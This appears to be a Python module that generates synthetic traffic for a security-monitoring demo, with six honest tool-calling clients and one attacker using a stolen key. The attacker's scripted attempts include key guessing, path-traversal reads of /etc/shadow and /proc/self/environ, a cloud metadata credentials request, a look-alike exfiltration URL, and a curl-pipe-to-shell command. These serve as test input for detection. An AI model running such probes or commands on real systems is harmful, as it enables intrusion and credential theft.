"""Who acts in the demo, and what they try: six honest clients, and somebody with a stolen key.

Each actor is an endless iterator of attempts in the order of time. None of them knows the policy or sees an answer:
that is the servers' part.
"""

from __future__ import annotations

import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from typing import Final, Literal

from mcpwatch.event import Caller
from mcpwatch.times import SECOND, utc_day

Kind = Literal["tool_call", "auth", "session_start"]

STOLEN_KEY: Final = "key_0007"
ATTACKER_ADDRESS: Final = "203.0.113.9"
LANES: Final = 4
"""Sessions that each honest client has open at any time."""


@dataclass(frozen=True, slots=True)
class Attempt:
    """Something that somebody asks of a server.

    Attributes:
        outcome: What comes of it where the policy allows it.
        duration_ms: How long that takes.
        enforced: False on a server that does not ask the policy.
    """

    at_ns: int
    kind: Kind
    server: str
    caller: Caller
    tool: str | None = None
    params: Mapping[str, str] | None = None
    outcome: str = "success"
    duration_ms: float = 3.0
    enforced: bool = True


@dataclass(frozen=True, slots=True)
class Habit:
    """A kind of call that a client makes again and again.

    Attributes:
        share: How often, in relation to the client's other habits.
        params: Templates: `{n}` is a number that changes, `{day}` the day of the call.
        millis: The shortest and the longest time that it takes.
    """

    share: int
    server: str
    tool: str
    params: Mapping[str, str]
    millis: tuple[int, int]


@dataclass(frozen=True, slots=True)
class Client:
    """An honest program, by whom it is and what it does."""

    caller: Caller
    habits: tuple[Habit, ...]


def _caller(number: int, client: str, method: str = "api_key", subject: str | None = None) -> Caller:
    return Caller(f"key_{number:04d}", client, None, f"10.20.0.{10 + number}", subject, method)


_CHAT: Final = {"url": "https://api.openai.com/v1/chat/completions", "method": "POST", "body": "case {n}"}
_MESSAGES: Final = {"url": "https://api.anthropic.com/v1/messages", "method": "POST", "body": "draft {n}"}
_SUM: Final = Habit(2, "data", "calculator", {"expression": "{n} * 1.19"}, (1, 4))
_NOW: Final = Habit(2, "data", "datetime", {"timezone": "UTC"}, (1, 2))

CLIENTS: Final = (
    Client(
        _caller(1, "billing-bot"),
        (
            Habit(6, "files", "file_read", {"path": "/app/data/invoices/{n}.json"}, (2, 18)),
            Habit(2, "web", "http_request", _CHAT, (400, 2_600)),
            replace(_SUM, share=4),
            _NOW,
        ),
    ),
    Client(
        _caller(2, "support-agent"),
        (
            Habit(5, "files", "file_read", {"path": "/app/public/help/topic-{n}.md"}, (2, 12)),
            Habit(3, "data", "memory_store", {"key": "ticket-{n}", "text": "customer called back"}, (4, 30)),
            Habit(2, "data", "database_write", {"table": "tickets", "row": "{n}"}, (8, 60)),
            Habit(2, "data", "text_transform", {"operation": "shorten", "text": "ticket {n}"}, (1, 6)),
        ),
    ),
    Client(
        _caller(3, "research-agent"),
        (
            Habit(
                4, "web", "http_get", {"url": "https://en.wikipedia.org/wiki/Special:Random?n={n}"}, (90, 900)
            ),
            Habit(2, "web", "http_get", {"url": "https://docs.python.org/3/library/index.html"}, (80, 400)),
            Habit(2, "web", "http_request", _MESSAGES, (600, 3_200)),
            Habit(2, "data", "memory_store", {"key": "finding-{n}", "text": "see source"}, (4, 30)),
        ),
    ),
    Client(
        _caller(4, "report-writer"),
        (
            Habit(5, "files", "file_read", {"path": "/app/data/ledger/{day}/part-{n}.csv"}, (5, 40)),
            Habit(2, "files", "file_write", {"path": "/app/output/report-{day}-{n}.md"}, (6, 35)),
            replace(_SUM, share=5),
            Habit(2, "data", "text_transform", {"operation": "table", "text": "rows {n}"}, (1, 6)),
        ),
    ),
    Client(
        _caller(5, "acme-desktop", "oauth", "dana@acme.example"),
        (
            Habit(4, "files", "file_read", {"path": "/app/public/wiki/page-{n}.md"}, (2, 14)),
            Habit(2, "web", "http_get", {"url": "https://de.wikipedia.org/wiki/Liste?n={n}"}, (90, 900)),
            Habit(1, "web", "http_request", _MESSAGES, (600, 3_200)),
            Habit(1, "files", "file_write", {"path": "/app/output/notes/dana-{n}.txt"}, (5, 20)),
            replace(_NOW, share=3),
        ),
    ),
    Client(
        _caller(6, "data-pipeline", "jwt", "svc-pipeline"),
        (
            Habit(5, "files", "file_read", {"path": "/app/data/events/{day}/{n}.parquet"}, (10, 90)),
            Habit(4, "data", "database_write", {"table": "facts", "row": "{n}"}, (8, 70)),
            Habit(1, "files", "file_write", {"path": "/app/output/batch-{n}.done"}, (4, 15)),
        ),
    ),
)
"""The honest ones."""

_MISHAPS: Final = {"error": 15, "timeout": 5}
"""Of a thousand honest calls, how many end so."""
_TIMEOUT_MS: Final = 30_000.0

ATTACKER: Final = Caller(STOLEN_KEY, "ci-bot", None, ATTACKER_ADDRESS, None, "api_key")
_GUESSES: Final = (
    (5.0, "key_admin"),
    (5.6, "key_root"),
    (6.1, "key_test"),
    (6.9, "key_0000"),
    (7.5, "key_0010"),
    (8.2, "key_0011"),
)
_LOOK_ALIKE: Final = "https://api.openai.com.telemetry-sync.example/v1/upload"
_METADATA: Final = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
_PROBES: Final = (
    (12.0, "files", "file_read", {"path": "/etc/passwd"}),
    (12.8, "files", "file_read", {"path": "/app/data/../../etc/shadow"}),
    (13.5, "files", "file_read", {"path": "/app/data/%2e%2e/%2e%2e/etc/shadow"}),
    (14.3, "files", "file_read", {"path": "/app/data/..%252f..%252fetc/passwd"}),
    (15.0, "files", "file_read", {"path": "/proc/self/environ"}),
    (16.0, "web", "http_request", {"url": _METADATA, "method": "GET"}),
    (17.2, "web", "http_request", {"url": _LOOK_ALIKE, "method": "POST", "body": "ping"}),
    (18.4, "data", "list_secrets", {"prefix": "prod"}),
    (20.0, "files", "shell_execute", {"command": "id; uname -a; ls -la /app"}),
    (21.5, "files", "shell_execute", {"command": "curl -fsS http://198.51.100.7/i.sh | sh"}),
    (23.0, "files", "file_write", {"path": "/app/output/run.sh", "content": "#!/bin/sh"}),
)
"""What the attacker tries first: seconds from the start, and the call."""
_HARVEST_FROM: Final = 24.0


def _ns(seconds: float) -> int:
    return round(seconds * 1_000_000) * 1_000


def _between(rng: random.Random, low: float, high: float) -> int:
    """A time span between two numbers of seconds, in whole microseconds, as ns."""
    return rng.randint(round(low * 1_000_000), round(high * 1_000_000)) * 1_000


def new_session(caller: Caller, rng: random.Random) -> Caller:
    """The caller in a session of its own."""
    return replace(caller, session=f"s-{rng.getrandbits(32):08x}")


def honest_call(client: Client, caller: Caller, at_ns: int, rng: random.Random) -> Attempt:
    """One call as the client makes them, now and then with a mishap."""
    habit = rng.choices(client.habits, [habit.share for habit in client.habits])[0]
    words = {"n": rng.randint(1_000, 9_999), "day": utc_day(at_ns)}
    params = {name: template.format(**words) for name, template in habit.params.items()}
    low, high = habit.millis
    duration = round(rng.triangular(low, high, low + (high - low) / 4), 1)
    luck = rng.randrange(1_000)
    outcome = "success"
    for mishap, share in _MISHAPS.items():
        if 0 <= luck < share:
            outcome = mishap
        luck -= share
    if outcome == "timeout":
        duration = _TIMEOUT_MS
    return Attempt(at_ns, "tool_call", habit.server, caller, habit.tool, params, outcome, duration)


def honest_lane(client: Client, start_ns: int, rng: random.Random) -> Iterator[Attempt]:
    """One session of a client after the other. No minute of a session has more than 11 calls."""
    at_ns = start_ns + _between(rng, 0.1, 7)
    while True:
        caller = new_session(client.caller, rng)
        yield Attempt(at_ns, "session_start", client.habits[0].server, caller)
        for _ in range(rng.randint(12, 40)):
            # eleven pauses are longer than a minute
            at_ns += _between(rng, 5.5, 8.5)
            yield honest_call(client, caller, at_ns, rng)


def attacker(start_ns: int, rng: random.Random) -> Iterator[Attempt]:
    """Guesses keys, gets in with a stolen one, looks for ways out, and then reads what it can, for ever."""
    for seconds, key in _GUESSES:
        guess = replace(ATTACKER, key=key, client="curl")
        yield Attempt(start_ns + _ns(seconds), "auth", "files", guess)
    sessions = [new_session(ATTACKER, rng) for _ in range(3)]
    yield Attempt(start_ns + _ns(10), "auth", "files", ATTACKER)
    yield Attempt(start_ns + _ns(10.4), "session_start", "files", sessions[0])
    for seconds, server, tool, params in _PROBES:
        yield Attempt(start_ns + _ns(seconds), "tool_call", server, sessions[0], tool, params)
    at_ns = start_ns + _ns(_HARVEST_FROM)
    for session in sessions[1:]:
        yield Attempt(at_ns, "session_start", "files", session)
    while True:
        at_ns += _between(rng, 0.55, 0.78)
        session = rng.choices(sessions, (3, 2, 1))[0]
        params = {"path": f"/app/data/customers/{rng.randint(10_000, 99_999)}.json"}
        duration = round(rng.uniform(2, 15), 1)
        yield Attempt(at_ns, "tool_call", "files", session, "file_read", params, duration_ms=duration)


def everybody(start_ns: int, seed: int) -> list[Iterator[Attempt]]:
    """All actors of the demo. What one does depends on the seed alone, never on the others."""
    rng = random.Random(seed)
    lanes = [
        honest_lane(client, start_ns, random.Random(rng.getrandbits(64)))
        for client in CLIENTS
        for _ in range(LANES)
    ]
    return [*lanes, attacker(start_ns, random.Random(rng.getrandbits(64)))]


def lifetime(caller: Caller, at_ns: int) -> dict[str, int]:
    """`issued_at` and `expires_at` (epoch seconds) of what the caller shows, where that expires: a quarter hour."""
    if caller.method not in ("jwt", "oauth"):
        return {}
    issued = at_ns // SECOND // 900 * 900
    return {"issued_at": issued, "expires_at": issued + 900}
